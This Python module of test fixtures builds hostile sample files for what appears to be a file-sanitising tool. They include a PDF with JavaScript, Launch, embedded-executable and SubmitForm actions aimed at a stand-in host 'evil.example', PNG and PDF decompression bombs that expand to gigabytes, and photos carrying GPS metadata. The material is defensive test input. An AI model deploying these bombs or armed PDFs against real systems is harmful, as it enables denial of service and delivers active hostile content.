"""Files as people and attackers send them, made here."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any


def photo(kind: str = "JPEG", size: tuple[int, int] = (320, 200), **other: Any) -> bytes:
    from PIL import Image

    if kind == "HEIF":
        import pillow_heif

        pillow_heif.register_heif_opener()
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, kind, **other)
    return out.getvalue()


def located() -> bytes:
    """Return a photo that says where and with what it was taken, with a thumbnail and a comment."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (42.0, 21.0, 30.0)
    return photo(exif=exif, comment=b"SecretComment")


def paper(pages: int = 1) -> Any:
    import pikepdf

    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(612, 792))
    return pdf


def saved(pdf: Any, **other: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **other)
    return out.getvalue()


def armed() -> bytes:
    """Return a PDF with everything in it that acts."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name

    pdf = paper()
    script = Dictionary(S=Name.JavaScript, JS="app.alert('EvilScript')")
    launch = pdf.make_indirect(Dictionary(S=Name.Launch, F="EvilProgram.exe", Next=Dictionary(script)))
    pdf.Root.OpenAction = launch
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", script])))
    pdf.Root.AcroForm = Dictionary(
        XFA=pdf.make_stream(b"<xdp>EvilForm</xdp>"),
        Fields=Array([Dictionary(T="f", FT=Name.Tx, AA=Dictionary(K=script), Kids=Array([Dictionary(A=script)]))]),
    )
    pdf.attachments["EvilFile.exe"] = b"MZ EvilPayload"
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=Name.URI, URI="http://evil.example")
    )
    attached = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([0, 0, 9, 9]),
        FS=Dictionary(Type=Name.Filespec, F="EvilNote", EF=Dictionary(F=pdf.make_stream(b"EvilAttached"))),
    )
    pdf.pages[0].obj.Annots = Array([link, pdf.make_indirect(attached)])
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F="http://evil.example"))
    pdf.docinfo["/Author"] = "EvilAuthor"
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)


def locked() -> bytes:
    import pikepdf

    return saved(paper(), encryption=pikepdf.Encryption(user="secret", owner="secret"))


def png_bomb(side: int = 30_000) -> bytes:
    """Return a PNG of a few kilobytes that unpacks to a gigabyte."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(b"\0" * (side // 8 + 1)) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """Return a PNG whose comment unpacks to 200 MB."""
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("x", "a" * 200_000_000, zip=True)
    out = io.BytesIO()
    Image.new("L", (8, 8)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def pdf_bomb() -> bytes:
    """Return a PDF whose list of objects unpacks to 2 GB, more than the cleaning process may have."""
    packer = zlib.compressobj(9)
    block = b" " * 16_000_000
    packed = b"".join(packer.compress(block) for _ in range(128)) + packer.flush()
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    first = out.tell()
    out.write(b"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed))
    out.write(packed + b"\nendstream endobj\n")
    table = out.tell()
    rows = b"".join(
        (
            b"\0" + bytes(5),
            b"\1" + first.to_bytes(4, "big") + b"\0",
            b"\2\0\0\0\1\0",
            b"\1" + table.to_bytes(4, "big") + b"\0",
        )
    )
    out.write(b"3 0 obj\n<</Type/XRef/Size 4/Root 2 0 R/W[1 4 1]/Length %d>>stream\n" % len(rows))
    out.write(rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % table)
    return out.getvalue()


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", "<script>")
    return out.getvalue()
